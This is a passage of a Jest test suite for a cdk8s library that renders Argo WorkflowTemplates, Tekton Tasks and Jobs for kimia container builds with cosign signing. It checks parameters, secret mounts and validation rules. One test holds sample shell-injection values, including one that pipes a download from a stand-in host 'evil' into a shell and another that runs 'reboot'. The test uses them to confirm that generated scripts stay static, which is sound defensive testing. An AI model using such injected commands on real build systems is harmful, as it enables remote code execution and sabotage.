import * as path from 'node:path';
import { Testing } from 'cdk8s';
import { parse } from 'yaml';
import {
  containerSecurityContext, EPOCH_SOURCE, formatBundleIssue, KimiaBuildPipeline, KimiaBuildTask, KimiaWorkflowTemplate,
  checkArgoRules, loadConfig, parseBuildSpec, renderBundle, validateDocuments, type BuildSpecInput,
} from '../src/internal';
import { BASE, errorsOf, synthJob } from './helpers';

const examples = loadConfig(path.join(__dirname, '..', 'examples', 'kimia-bundles.yaml'));
const catalogSpec = examples.builds.find((b) => b.name === 'kimia-build')!;
const V = catalogSpec.version;

type Obj = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
function synthArgo(spec: BuildSpecInput) {
  const chart = Testing.chart();
  new KimiaWorkflowTemplate(chart, 'wt', { spec });
  const [doc] = Testing.synth(chart);
  const t = (name: string) => doc.spec.templates.find((x: Obj) => x.name === name);
  return { doc, main: t('main'), build: t('build'), epoch: t('source-date-epoch') };
}
const names = (list: Obj[] = []) => list.map((x) => x.name);

describe('KimiaWorkflowTemplate (catalog example)', () => {
  let { doc, main, build, epoch } = {} as ReturnType<typeof synthArgo>;
  beforeEach(() => ({ doc, main, build, epoch } = synthArgo(catalogSpec)));

  it('is a WorkflowTemplate with catalog annotations and an entrypoint', () => {
    expect(doc.apiVersion).toBe('argoproj.io/v1alpha1');
    expect(doc.kind).toBe('WorkflowTemplate');
    expect(doc.metadata.labels['app.kubernetes.io/version']).toBe(V);
    expect(doc.metadata.annotations).toEqual({
      'workflows.argoproj.io/title': 'kimia kimia-build',
      'workflows.argoproj.io/description': 'Build, attest and sign a container image from a source workspace with kimia (rootless BuildKit).',
      'workflows.argoproj.io/version': '>= 3.6.0',
      'workflows.argoproj.io/maintainer': '@kimia-bundles',
      'workflows.argoproj.io/tags': 'image-build,kimia,buildkit,rootless',
    });
    expect(doc.spec.entrypoint).toBe('main');
    expect(names(doc.spec.templates)).toEqual(['main', 'source-date-epoch', 'build', 'sign', 'verify']);
  });
  it('declares workflow parameters with descriptions, string values only', () => {
    expect(doc.spec.arguments.parameters).toEqual([
      { name: 'IMAGE', description: 'Reference of the image to build and push (repository:tag).' },
      { name: 'DOCKERFILE', description: 'Path to the Dockerfile, relative to CONTEXT.', value: 'Dockerfile' },
      { name: 'CONTEXT', description: 'Directory of the build context inside the source workspace.', value: '.' },
      { name: 'BUILDER_IMAGE', description: 'The kimia builder image, pinned.', value: 'ghcr.io/rapidfort/kimia:1.0.25' },
      { name: 'GIT_URL', description: 'Git URL of the source to build.' },
      { name: 'GIT_REVISION', description: 'Branch, tag or commit to build.', value: 'main' },
      {
        name: 'REGISTRY_SECRET', value: 'registry-credentials',
        description: 'kubernetes.io/dockerconfigjson Secret with the registry credentials, mounted read-only in the build, index, sign and verify steps. It must exist.',
      },
    ]);
  });
  it('has a leaf build template that works by templateRef: inputs only, own volumes, kimia command', () => {
    const json = JSON.stringify(build);
    expect(json).not.toContain('{{workflow.');
    expect(build.container.name).toBe('main');
    expect(build.container.command).toEqual(['/usr/local/bin/kimia']);
    expect(build.container.image).toBe('{{inputs.parameters.BUILDER_IMAGE}}');
    expect(build.container.args).toEqual([
      '--context=/home/kimia/workspace',
      '--context-sub-path={{inputs.parameters.CONTEXT}}',
      '--dockerfile={{inputs.parameters.DOCKERFILE}}',
      '--destination={{inputs.parameters.IMAGE}}',
      '--reproducible', '--attestation=max',
      '--digest-file=/tmp/kimia-digest', '--image-name-with-digest-file=/tmp/kimia-image',
    ]);
    // signing.in: isolated: the build gets neither key nor password, only the registry Secret the input names
    // (Argo substitutes inputs into the template's volumes: argo-workflows v4.1.2 workflow/common/util.go:273-280).
    expect(build.volumes).toEqual([{ name: 'docker-config', secret: { secretName: '{{inputs.parameters.REGISTRY_SECRET}}', items: [{ key: '.dockerconfigjson', path: 'config.json' }], defaultMode: 0o400 } }]);
    expect(build.container.volumeMounts).toEqual([{ name: 'docker-config', mountPath: '/home/kimia/.docker/config.json', subPath: 'config.json', readOnly: true }]);
    expect(build.container.env).toEqual([{ name: 'SOURCE_DATE_EPOCH', value: '{{inputs.parameters.SOURCE_DATE_EPOCH}}' }]);
    expect(build.inputs.artifacts).toEqual([{ name: 'source', path: '/home/kimia/workspace', git: { repo: '{{inputs.parameters.GIT_URL}}', revision: '{{inputs.parameters.GIT_REVISION}}', depth: 1 } }]);
  });
  it('puts kimia\'s security context on the container, only fsGroup on the pod', () => {
    expect(build.container.securityContext).toEqual(containerSecurityContext(parseBuildSpec(catalogSpec)));
    expect(build.securityContext).toEqual({ fsGroup: 1000 });
    expect(build.metadata.annotations).toEqual({ 'container.apparmor.security.beta.kubernetes.io/main': 'unconfined' });
  });
  it('outputs IMAGE_DIGEST and IMAGE_URL from kimia\'s digest files, globally', () => {
    expect(build.outputs.parameters).toEqual([
      { name: 'IMAGE_DIGEST', globalName: 'IMAGE_DIGEST', valueFrom: { path: '/tmp/kimia-digest' } },
      { name: 'IMAGE_URL', globalName: 'IMAGE_URL', valueFrom: { path: '/tmp/kimia-image' } },
    ]);
  });
  it('reads SOURCE_DATE_EPOCH from the checked-out source before the build and builds that commit', () => {
    expect(epoch.script.source).toBe(EPOCH_SOURCE);
    // The builder's own image by the same parameter (git 2.52, uid 1000), command set (no registry lookup).
    expect(epoch.script).toMatchObject({ image: '{{inputs.parameters.BUILDER_IMAGE}}', command: ['/bin/sh'] });
    expect(epoch.inputs.parameters.map((p: { name: string }) => p.name)).toContain('BUILDER_IMAGE');
    expect(epoch.script.env).toEqual([
      { name: 'SOURCE_DIR', value: '/src' }, { name: 'EPOCH_FILE', value: '/tmp/source-date-epoch' }, { name: 'COMMIT_FILE', value: '/tmp/git-commit' },
    ]);
    const [epochTask, buildTask] = main.dag.tasks;
    expect(epochTask).toMatchObject({ name: 'source-date-epoch', template: 'source-date-epoch' });
    expect(buildTask.depends).toBe('source-date-epoch');
    expect(buildTask.arguments.parameters).toEqual(expect.arrayContaining([
      { name: 'IMAGE', value: '{{inputs.parameters.IMAGE}}' },
      { name: 'GIT_REVISION', value: '{{tasks.source-date-epoch.outputs.parameters.GIT_COMMIT}}' },
      { name: 'SOURCE_DATE_EPOCH', value: '{{tasks.source-date-epoch.outputs.parameters.SOURCE_DATE_EPOCH}}' },
    ]));
    expect(build.container.env).toContainEqual({ name: 'SOURCE_DATE_EPOCH', value: '{{inputs.parameters.SOURCE_DATE_EPOCH}}' });
  });
  it('sets podGC, ttlStrategy, retryStrategy, deadline and workflow labels, all configurable', () => {
    expect(doc.spec.podGC).toEqual({ strategy: 'OnPodSuccess' });
    expect(doc.spec.ttlStrategy).toEqual({ secondsAfterCompletion: 86400 });
    expect(doc.spec.workflowMetadata).toEqual({ labels: { app: 'kimia-build', 'app.kubernetes.io/managed-by': 'kimia-bundles' } });
    expect(build.retryStrategy).toEqual({ limit: 1, retryPolicy: 'OnError', backoff: { duration: '10s', factor: 2, cap: '5m' }, expression: "lastRetry.exitCode != '0'" });
    expect(build.activeDeadlineSeconds).toBe(3600);
    const custom = synthArgo({ ...catalogSpec, serviceAccountName: 'builder', argo: { podGC: 'OnWorkflowSuccess', ttlSecondsAfterCompletion: 600, retryLimit: 0, activeDeadlineSeconds: 900 } });
    expect(custom.doc.spec.podGC).toEqual({ strategy: 'OnWorkflowSuccess' });
    expect(custom.doc.spec.ttlStrategy).toEqual({ secondsAfterCompletion: 600 });
    expect(custom.build.retryStrategy).toBeUndefined();
    expect(custom.build.activeDeadlineSeconds).toBe(900);
    expect(custom.build.serviceAccountName).toBe('builder');
  });
  it('renders a ClusterWorkflowTemplate on request', () => {
    const { doc: cwt } = synthArgo({ ...catalogSpec, argo: { clusterScope: true } });
    expect(cwt.kind).toBe('ClusterWorkflowTemplate');
    const files = renderBundle({ builds: [{ ...parseBuildSpec({ ...catalogSpec, argo: { clusterScope: true } }), outputs: ['argo'] }] });
    expect([...files.keys()]).toContain(`argo/clusterworkflowtemplate/kimia-build/${V}/kimia-build.yaml`);
    expect(files.get(`argo/clusterworkflowtemplate/kimia-build/${V}/samples/workflow.yaml`)).toContain('clusterScope: true');
  });
  it('offers enum params as a drop-down (spec.arguments), and checks value against it', () => {
    const enumSpec = { ...BASE, params: { CHANNEL: { description: 'c', default: 'stable', enum: ['stable', 'edge'] } }, destinations: ['registry.io/myapp:${CHANNEL}'] };
    const { doc: d } = synthArgo(enumSpec);
    expect(d.spec.arguments.parameters[0]).toEqual({ name: 'CHANNEL', description: 'c', value: 'stable', enum: ['stable', 'edge'] });
    const broken = JSON.parse(JSON.stringify(d));
    broken.spec.arguments.parameters[0].value = 'nightly';
    expect(validateDocuments('x.yaml', [broken]).map(formatBundleIssue)).toEqual(['x.yaml: WorkflowTemplate/app: spec.arguments.parameters[0].value: "nightly" is not in enum']);
    const chart = Testing.chart();
    const task = new KimiaBuildTask(chart, 't', { spec: enumSpec });
    expect(task.interface.params[0]).toMatchObject({ name: 'CHANNEL', description: 'c One of: stable, edge.', default: 'stable' });
    expect((task.interface.params[0] as Obj).enum).toBeUndefined();
    expect(() => synthJob(enumSpec, { CHANNEL: 'nightly' })).toThrow('params.CHANNEL: "nightly" is not one of "stable", "edge"');
  });
  it('gives a no-push build no digest outputs (kimia would write a digest for an image it never pushed)', () => {
    const { build: b } = synthArgo({ ...BASE, push: false });
    expect(b.outputs).toBeUndefined();
    expect(b.container.args.filter((a: string) => /^--(digest-file|image-name-with-digest-file)=/.test(a))).toEqual([]);
  });
});

describe('Argo rules on Workflows and steps', () => {
  const wf = (steps: Obj[][]) => ({
    apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { generateName: 'demo-' },
    spec: {
      entrypoint: 'main',
      templates: [
        { name: 'main', steps },
        { name: 'make', container: { image: 'busybox:1.36', command: ['true'] }, outputs: { parameters: [{ name: 'OUT', valueFrom: { path: '/tmp/out' } }] } },
        { name: 'use', inputs: { parameters: [{ name: 'IN' }] }, container: { image: 'busybox:1.36', command: ['echo', '{{inputs.parameters.IN}}'] } },
      ],
    },
  });
  const use = (value: string) => ({ name: 'b', template: 'use', arguments: { parameters: [{ name: 'IN', value }] } });
  it('a Workflow (our samples) with generateName passes; steps see the outputs of earlier groups', () => {
    expect(checkArgoRules(wf([[{ name: 'a', template: 'make' }], [use('{{steps.a.outputs.parameters.OUT}}')]]))).toEqual([]);
  });
  it('the template\'s own outputs may use any of its steps, parameters and artifacts alike', () => {
    const doc = wf([[{ name: 'a', template: 'make' }], [use('{{steps.a.outputs.parameters.OUT}}')]]);
    doc.spec.templates[0] = { ...doc.spec.templates[0], outputs: {
      parameters: [{ name: 'R', valueFrom: { parameter: '{{steps.a.outputs.parameters.OUT}}' } }],
      artifacts: [{ name: 'F', from: '{{steps.a.outputs.artifacts.file}}' }],
    } } as never;
    expect(checkArgoRules(doc)).toEqual([]);
  });
  it('a Workflow made from a workflowTemplateRef needs no templates of its own', () => {
    expect(checkArgoRules({ apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { generateName: 'run-' },
      spec: { entrypoint: 'main', workflowTemplateRef: { name: 'kimia-build' }, arguments: { parameters: [{ name: 'IMAGE', value: 'r.io/a:v1' }] } } })).toEqual([]);
  });
  it('a step may not use a step of its own or a later group, nor an output its template lacks', () => {
    expect(checkArgoRules(wf([[{ name: 'a', template: 'make' }, use('{{steps.a.outputs.parameters.OUT}}')]]))).toEqual([
      { path: 'spec.templates[0].steps[0][1].arguments.parameters[0].value', message: 'failed to resolve {{steps.a.outputs.parameters.OUT}} (only steps of earlier groups are in scope)' }]);
    expect(checkArgoRules(wf([[{ name: 'a', template: 'make' }], [use('{{steps.a.outputs.parameters.NOPE}}')]]))).toEqual([
      { path: 'spec.templates[0].steps[1][0].arguments.parameters[0].value', message: 'failed to resolve {{steps.a.outputs.parameters.NOPE}}' }]);
  });
});

describe('kimia-bud (Buildah)', () => {
  const bud: BuildSpecInput = { ...BASE, variant: 'kimia-bud', outputs: ['argo'] };
  it('offers no digest outputs: Buildah reports the config digest, not the manifest digest', () => {
    const { build } = synthArgo(bud);
    expect(build.outputs).toBeUndefined();
    const files = renderBundle({ builds: [parseBuildSpec({ ...bud, name: 'bud' })] });
    const readme = files.get('argo/workflowtemplate/bud/0.1/README.md')!;
    expect(readme).toContain('## Outputs\n\n_None._ kimia-bud (Buildah) reports the image\'s config digest');
    expect(readme).not.toContain('IMAGE_DIGEST');
  });
  it('BuildKit builds keep them', () => expect(names(synthArgo(catalogSpec).build.outputs.parameters)).toEqual(['IMAGE_DIGEST', 'IMAGE_URL']));
});

describe('the service-account token', () => {
  const leaves = (spec: BuildSpecInput) => synthArgo(spec).doc.spec.templates.filter((t: Obj) => t.container || t.script);
  it('stays Argo\'s default without an executor service account (Argo refuses automount false without one)', () => {
    for (const t of leaves(catalogSpec)) {
      expect(t.automountServiceAccountToken).toBeUndefined();
      expect(t.executor).toBeUndefined();
    }
  });
  it('is kept out of every step\'s containers when argo.executorServiceAccountName is set', () => {
    const ts = leaves({ ...catalogSpec, argo: { executorServiceAccountName: 'argo-executor' } });
    expect(names(ts)).toEqual(['source-date-epoch', 'build', 'sign', 'verify']);
    for (const t of ts) {
      expect(t.automountServiceAccountToken).toBe(false);
      expect(t.executor).toEqual({ serviceAccountName: 'argo-executor' });
    }
  });
  it('refuses an executor service account that is not a Kubernetes name', () => {
    expect(errorsOf({ ...catalogSpec, argo: { executorServiceAccountName: 'Argo Executor' } }).join('\n')).toMatch(/^argo\.executorServiceAccountName: /);
  });
});

describe('verification after the build', () => {
  let { main, build, doc } = {} as ReturnType<typeof synthArgo>;
  let verify: Obj;
  beforeEach(() => {
    ({ main, build, doc } = synthArgo(catalogSpec));
    verify = doc.spec.templates.find((t: Obj) => t.name === 'verify');
  });
  it('verifies the pushed digest with the public key from the signing Secret', () => {
    expect(main.dag.tasks.at(-1)).toEqual({
      name: 'verify', template: 'verify', depends: 'sign',
      arguments: { parameters: [{ name: 'REGISTRY_SECRET', value: '{{inputs.parameters.REGISTRY_SECRET}}' }, { name: 'IMAGE_REF', value: '{{tasks.build.outputs.parameters.IMAGE_URL}}' }] },
    });
    // cosign from the kimia image (HOME writable for uid 1000), with its command set (argo.md: no registry lookup).
    expect(verify.container.image).toBe('ghcr.io/rapidfort/kimia:1.0.25');
    expect(verify.container.command).toEqual(['/usr/local/bin/cosign']);
    expect(verify.container.args).toEqual(['verify', '--key', '/etc/kimia/cosign-pub/cosign.pub', '--insecure-ignore-tlog=true', '--new-bundle-format=false', '{{inputs.parameters.IMAGE_REF}}']);
    expect(verify.volumes).toEqual([
      { name: 'cosign-pub', secret: { secretName: 'cosign-keys', items: [{ key: 'cosign.pub', path: 'cosign.pub' }], defaultMode: 0o444 } },
      { name: 'docker-config', secret: { secretName: '{{inputs.parameters.REGISTRY_SECRET}}', items: [{ key: '.dockerconfigjson', path: 'config.json' }], defaultMode: 0o444 } },
      { name: 'tuf-cache', emptyDir: {} },
    ]);
    expect(verify.container.env).toEqual([{ name: 'TUF_ROOT', value: '/var/run/kimia-bundles/sigstore' }, { name: 'DOCKER_CONFIG', value: '/etc/kimia/docker' }]);
    expect(verify.container.securityContext).toMatchObject({ runAsNonRoot: true, allowPrivilegeEscalation: false });
    expect(build.outputs.parameters[1].name).toBe('IMAGE_URL');
  });
  it('adds the insecure-registry flags when the spec allows insecure registries, and can be turned off', () => {
    const { doc: d } = synthArgo({ ...catalogSpec, registry: { insecure: true, credentialsSecret: 'regcred' } });
    const v = d.spec.templates.find((t: Obj) => t.name === 'verify');
    expect(v.container.args).toEqual(['verify', '--key', '/etc/kimia/cosign-pub/cosign.pub', '--insecure-ignore-tlog=true', '--new-bundle-format=false', '--allow-insecure-registry', '--allow-http-registry', '{{inputs.parameters.IMAGE_REF}}']);
    expect(v.container.env).toEqual([{ name: 'TUF_ROOT', value: '/var/run/kimia-bundles/sigstore' }, { name: 'DOCKER_CONFIG', value: '/etc/kimia/docker' }]);
    expect(names(synthArgo({ ...catalogSpec, argo: { verify: false } }).doc.spec.templates)).toEqual(['main', 'source-date-epoch', 'build', 'sign']);
  });
});

describe('the same spec as a Job, a Tekton Task and an Argo template: each checked against literals, not against another engine (issue 15 item 2)', () => {
  const spec: BuildSpecInput = {
    ...BASE,
    params: { TAG: { description: 'tag', default: 'v1' }, EPOCH: { description: 'epoch', default: '1700000000' } },
    destinations: ['registry.io/myapp:${TAG}'],
    buildArgs: { VERSION: '${TAG}' },
    reproducible: { sourceDateEpoch: '${EPOCH}' },
    attestation: 'max',
    // kimia's own --sign: the same argv, env and mounts in every engine.
    signing: { key: { secretName: 'cosign-keys', key: 'cosign.key' }, password: { secretName: 'cosign-keys', key: 'password' }, in: 'builder' },
    registry: { credentialsSecret: 'regcred' },
  };
  let job = undefined as unknown as ReturnType<typeof synthJob>;
  beforeEach(() => { job = synthJob(spec, { TAG: 'v9', EPOCH: '1711111111' }); });
  let { build } = {} as ReturnType<typeof synthArgo>;
  beforeEach(() => ({ build } = synthArgo(spec)));
  let step: Obj;
  beforeEach(() => {
    const chart = Testing.chart();
    new KimiaBuildPipeline(chart, 'p', { task: new KimiaBuildTask(chart, 't', { spec }) });
    step = Testing.synth(chart)[0].spec.steps.at(-1);
  });

  // kimia's argv (kimia-flags.json; kimia v1.0.25 src/cmd/kimia/args.go): a git URL context, one
  // --destination, --reproducible and SOURCE_DATE_EPOCH for timestamps, --attestation=max, --sign
  // with the key file and the NAME of the env var holding the password (--cosign-password-env), and
  // a --build-arg per build arg. Each engine writes the param its own way: the Job's value bound at
  // render, Tekton's $(params.X) (pipeline docs/variables.md), Argo's {{inputs.parameters.X}}.
  const argv = (tag: string) => [
    '--context=https://github.com/myorg/myapp.git',
    `--destination=registry.io/myapp:${tag}`,
    '--reproducible',
    '--attestation=max',
    '--sign',
    '--cosign-key=/secrets/cosign.key',
    '--cosign-password-env=COSIGN_PASSWORD',
    `--build-arg=VERSION=${tag}`,
  ];
  it('gives kimia the argv its parser reads, each engine with its own param syntax', () => {
    expect(job.container.args).toEqual(argv('v9'));
    // Tekton: the digest result file, then the array params after our marker flags (kimia-bundles' own splice).
    expect(step.args).toEqual([...argv('$(params.TAG)'), '--digest-file=$(results.IMAGE_DIGEST.path)',
      '--kimia-bundles-build-args', '$(params.BUILD_ARGS[*])', '--kimia-bundles-extra-args', '$(params.EXTRA_ARGS[*])']);
    // Argo: digest files on the container's /tmp, read back as output parameters.
    expect(build.container.args).toEqual([...argv('{{inputs.parameters.TAG}}'), '--digest-file=/tmp/kimia-digest', '--image-name-with-digest-file=/tmp/kimia-image']);
  });

  // cosign v3.0.2 binds COSIGN_<FLAG> env to its flags (viper AutomaticEnv): legacy format, no signing
  // config, no transparency-log upload. The password comes from the Secret by secretKeyRef (signing.in: builder).
  const env = (epoch: string) => [
    { name: 'COSIGN_PASSWORD', valueFrom: { secretKeyRef: { key: 'password', name: 'cosign-keys' } } },
    { name: 'COSIGN_NEW_BUNDLE_FORMAT', value: 'false' },
    { name: 'COSIGN_USE_SIGNING_CONFIG', value: 'false' },
    { name: 'COSIGN_TLOG_UPLOAD', value: 'false' },
    { name: 'SOURCE_DATE_EPOCH', value: epoch },
  ];
  // kimia reads registry credentials from ~/.docker/config.json (HOME=/home/kimia), the key from the file --cosign-key names.
  const mounts = [
    { mountPath: '/home/kimia/.docker/config.json', name: 'docker-config', readOnly: true, subPath: 'config.json' },
    { mountPath: '/secrets', name: 'cosign-key', readOnly: true },
  ];
  const volumes = (registrySecret: string) => [
    { name: 'docker-config', secret: { defaultMode: 0o400, items: [{ key: '.dockerconfigjson', path: 'config.json' }], secretName: registrySecret } },
    { name: 'cosign-key', secret: { defaultMode: 0o400, items: [{ key: 'cosign.key', path: 'cosign.key' }], secretName: 'cosign-keys' } },
  ];
  it('gives the env, mounts and volumes kimia and its cosign read', () => {
    expect(job.container.env).toEqual(env('1711111111'));
    expect(step.env).toEqual([...env('$(params.EPOCH)'),
      { name: 'KIMIA_DIGEST_FILE', value: '$(results.IMAGE_DIGEST.path)' },
      { name: 'KIMIA_IMAGE_URL', value: 'registry.io/myapp:$(params.TAG)' },
      { name: 'KIMIA_IMAGE_URL_FILE', value: '$(results.IMAGE_URL.path)' }]);
    expect(build.container.env).toEqual(env('{{inputs.parameters.EPOCH}}'));
    for (const m of [job.container.volumeMounts, step.volumeMounts, build.container.volumeMounts]) expect(m).toEqual(mounts);
    expect(job.pod.volumes).toEqual(volumes('regcred'));
    // Argo: the registry Secret by the REGISTRY_SECRET input (default the spec's), which Argo substitutes into template volumes.
    expect(build.volumes).toEqual(expect.arrayContaining(volumes('{{inputs.parameters.REGISTRY_SECRET}}')));
    expect(build.inputs.parameters).toContainEqual(expect.objectContaining({ name: 'REGISTRY_SECRET', default: 'regcred' }));
  });
});

describe('hostile parameter values never reach a script source', () => {
  it('keeps the script static whatever the params hold', () => {
    // No "$(": the kubelet would expand it in args, so param defaults refuse it (test/inert.test.ts).
    const HOSTILE = ['"; curl evil | sh; "', '$ID; id', '`reboot`', 'a\nb', '{{workflow.name}}'];
    const { doc } = synthArgo({
      ...catalogSpec,
      params: { ...catalogSpec.params, IMAGE: { description: 'i', example: HOSTILE[0] }, DOCKERFILE: { description: 'd', default: HOSTILE[1] }, CONTEXT: { description: 'c', default: HOSTILE[2] } },
    } as BuildSpecInput);
    const sources = doc.spec.templates.filter((t: Obj) => t.script).map((t: Obj) => t.script.source);
    expect(sources).toEqual([EPOCH_SOURCE]);
    for (const h of HOSTILE) expect(EPOCH_SOURCE).not.toContain(h);
    expect(EPOCH_SOURCE).not.toContain('{{');
  });
});

describe('Argo validation rules', () => {
  let files = undefined as unknown as ReturnType<typeof renderBundle>;
  beforeEach(() => { files = renderBundle(examples, { builds: ['kimia-build'] }); });
  const FILE = `argo/workflowtemplate/kimia-build/${V}/kimia-build.yaml`;
  const W = `${FILE}: WorkflowTemplate/kimia-build`;
  const errors = (mutate: (d: Obj) => void, at = FILE) => {
    const doc = parse(files.get(FILE)!.replace(/^#.*\n/, ''));
    mutate(doc);
    return validateDocuments(at, [doc]).map(formatBundleIssue);
  };
  const tmpl = (d: Obj, n: string) => d.spec.templates.find((t: Obj) => t.name === n);

  it('the generated template passes', () => expect(errors(() => undefined)).toEqual([]));

  const cases: Array<[string, (d: Obj) => void, string[]]> = [
    ['metadata.name length', (d) => { d.metadata.name = 'x'.repeat(64); }, [
      `${FILE}: WorkflowTemplate/${'x'.repeat(64)}: metadata.name: "${'x'.repeat(64)}" must be a DNS-1123 subdomain of at most 63 characters`,
      `${FILE}: WorkflowTemplate/${'x'.repeat(64)}: metadata.name: "${'x'.repeat(64)}" must equal the directory and file name "kimia-build"`]],
    // The CRD's pattern (argo-workflows validate.go checks the same): a document the schema refuses gets the schema's finding alone.
    ['template name pattern', (d) => { tmpl(d, 'main').name = 'main_1'; d.spec.entrypoint = 'main_1'; }, [
      `${W}: spec.templates[0].name: must match pattern "^[a-zA-Z0-9][-a-zA-Z0-9]*$"`]],
    ['unique template names', (d) => { tmpl(d, 'source-date-epoch').name = 'build'; }, [
      `${W}: spec.templates[2].name: duplicate template name "build"`,
      `${W}: spec.templates[0].dag.tasks[0].template: template name 'source-date-epoch' undefined`]],
    ['entrypoint exists', (d) => { d.spec.entrypoint = 'start'; }, [`${W}: spec.entrypoint: template name 'start' undefined`]],
    ['exactly one template type', (d) => { tmpl(d, 'build').script = { image: 'x:1', source: 'true' }; }, [
      `${W}: spec.templates[2]: a template needs exactly one type (container, script, steps, dag, resource, suspend, containerSet, data, http, plugin); found container, script`]],
    ['inputs in scope', (d) => { tmpl(d, 'build').container.args.push('--target={{inputs.parameters.TARGET}}'); }, [
      `${W}: spec.templates[2].container.args[8]: failed to resolve {{inputs.parameters.TARGET}}`]],
    ['catalog: a declared workflow parameter is taken (no false positive)', (d) => {
      d.spec.arguments = { parameters: [...(d.spec.arguments?.parameters ?? []), { name: 'EXTRA', value: 'x' }] };
      tmpl(d, 'main').dag.tasks[1].arguments.parameters[0].value = '{{ workflow.parameters.EXTRA }}';
    }, []],
    ['catalog: workflow parameters declared (Argo itself takes any in a WorkflowTemplate, validate.go:828)', (d) => { tmpl(d, 'main').dag.tasks[1].arguments.parameters[0].value = '{{workflow.parameters.NOPE}}'; }, [
      `${W}: spec.templates[0].dag.tasks[1].arguments.parameters[0].value: {{workflow.parameters.NOPE}} is not declared in spec.arguments.parameters: a Workflow that does not pass it is refused ("failed to resolve"); a catalog template declares the workflow parameters it uses`]],
    ['declared workflow parameters resolve in any template (no false positive)', (d) => { tmpl(d, 'build').container.env[0].value = '{{workflow.parameters.IMAGE}}'; }, []],
    ['unclosed {{', (d) => { tmpl(d, 'build').container.args.push('--label=a={{inputs.parameters.IMAGE'); }, [
      `${W}: spec.templates[2].container.args[8]: unclosed {{ in a string`]],
    ['DAG dependency for referenced outputs', (d) => { delete tmpl(d, 'main').dag.tasks[1].depends; }, [
      `${W}: spec.templates[0].dag.tasks[1].arguments.parameters[6].value: {{tasks.source-date-epoch.outputs.parameters.GIT_COMMIT}}: task "build" must depend on "source-date-epoch" to use its outputs (missing dependency)`,
      `${W}: spec.templates[0].dag.tasks[1].arguments.parameters[7].value: {{tasks.source-date-epoch.outputs.parameters.SOURCE_DATE_EPOCH}}: task "build" must depend on "source-date-epoch" to use its outputs (missing dependency)`]],
    ['referenced outputs exist', (d) => { tmpl(d, 'main').dag.tasks[1].arguments.parameters[6].value = '{{tasks.source-date-epoch.outputs.parameters.EPOCH}}'; }, [
      `${W}: spec.templates[0].dag.tasks[1].arguments.parameters[6].value: failed to resolve {{tasks.source-date-epoch.outputs.parameters.EPOCH}}`]],
    ['output parameters need exactly one of value and valueFrom', (d) => { tmpl(d, 'build').outputs.parameters[0].value = 'x'; }, [
      `${W}: spec.templates[2].outputs.parameters[0]: an output parameter needs exactly one of value and valueFrom`]],
    ['container outputs need a path', (d) => { tmpl(d, 'build').outputs.parameters[0].valueFrom = { jsonPath: '{.x}' }; }, [
      `${W}: spec.templates[2].outputs.parameters[0].valueFrom: container and script outputs need valueFrom.path`]],
    ['unique parameter names', (d) => { tmpl(d, 'build').inputs.parameters.push({ name: 'IMAGE' }); }, [
      `${W}: spec.templates[2].inputs.parameters[8].name: duplicate parameter name "IMAGE"`]],
    ['parameter values are strings', (d) => { d.spec.arguments.parameters[1].value = 3; }, [`${W}: spec.arguments.parameters[1].value: must be string`]],
    ['arguments match the template inputs', (d) => { tmpl(d, 'main').dag.tasks[1].arguments.parameters[0].name = 'IMAGES'; }, [
      `${W}: spec.templates[0].dag.tasks[1].arguments.parameters[0].name: template "build" has no input "IMAGES"`,
      `${W}: spec.templates[0].dag.tasks[1].arguments: input "IMAGE" of template "build" has no value`]],
    ['no tags in script source', (d) => { tmpl(d, 'source-date-epoch').script.source += 'echo {{inputs.parameters.GIT_URL}}\n'; }, [
      `${W}: spec.templates[1].script.source: no {{...}} tag may be pasted into script source (script injection): pass values through env`]],
    ['catalog: description ends with "."', (d) => { d.metadata.annotations['workflows.argoproj.io/description'] = 'Builds images'; }, [
      `${W}: metadata.annotations["workflows.argoproj.io/description"]: must end with "."`]],
    ['catalog: version is a semver constraint', (d) => { d.metadata.annotations['workflows.argoproj.io/version'] = 'latest'; }, [
      `${W}: metadata.annotations["workflows.argoproj.io/version"]: "latest" is not a semver constraint`]],
    ['catalog: maintainer starts with @', (d) => { d.metadata.annotations['workflows.argoproj.io/maintainer'] = 'kimia'; }, [
      `${W}: metadata.annotations["workflows.argoproj.io/maintainer"]: is required and must start with "@"`]],
    ['catalog: version label equals the directory', (d) => { d.metadata.labels['app.kubernetes.io/version'] = '1.0'; }, [
      `${W}: metadata.labels["app.kubernetes.io/version"]: "1.0" must equal the version directory "${V}"`]],
    ['catalog: pinned images', (d) => { tmpl(d, 'source-date-epoch').script.image = 'alpine/git:latest'; }, [
      `${W}: spec.templates[1].script.image: image "alpine/git:latest" must be pinned (not :latest or untagged)`]],
    ['structure: unknown field', (d) => { tmpl(d, 'build').container.bogus = true; }, [`${W}: spec.templates[2].container: unknown field "bogus"`]],
    ['DAG dependency cycle', (d) => { tmpl(d, 'main').dag.tasks[0].depends = 'build'; }, [
      `${W}: spec.templates[0].dag.tasks[1].depends: dependency cycle: build -> source-date-epoch -> build`]],
    ['no token without an executor service account', (d) => { tmpl(d, 'build').automountServiceAccountToken = false; }, [
      `${W}: spec.templates[2].executor.serviceAccountName: must not be empty if automountServiceAccountToken is false (Argo's executor needs a token)`]],
    ['no token for the whole template without an executor service account', (d) => { d.spec.automountServiceAccountToken = false; }, [
      ...[1, 2, 3, 4].map((i) => `${W}: spec.templates[${i}].executor.serviceAccountName: must not be empty if automountServiceAccountToken is false (Argo's executor needs a token)`)]],
    ['no token, with an executor service account (no false positive)', (d) => { d.spec.automountServiceAccountToken = false; d.spec.executor = { serviceAccountName: 'argo-executor' }; }, []],
  ];
  it.each(cases)('%s', (_n, mutate, expected) => expect(errors(mutate)).toEqual(expected));
});

describe('the Argo catalog layout in dist/', () => {
  let files = undefined as unknown as ReturnType<typeof renderBundle>;
  beforeEach(() => { files = renderBundle(examples, { builds: ['kimia-build'] }); });
  const dir = `argo/workflowtemplate/kimia-build/${V}`;
  it('has the template, rbac.yaml, README and a workflowTemplateRef sample', () => {
    expect([...files.keys()].filter((f) => f.startsWith('argo/'))).toEqual([`${dir}/README.md`, `${dir}/kimia-build.yaml`, `${dir}/rbac.yaml`, `${dir}/samples/workflow.yaml`]);
    const sample = parse(files.get(`${dir}/samples/workflow.yaml`)!.replace(/^#.*\n/, ''));
    expect(sample.kind).toBe('Workflow');
    expect(sample.spec.workflowTemplateRef).toEqual({ name: 'kimia-build' });
    expect(sample.spec.templates).toBeUndefined();
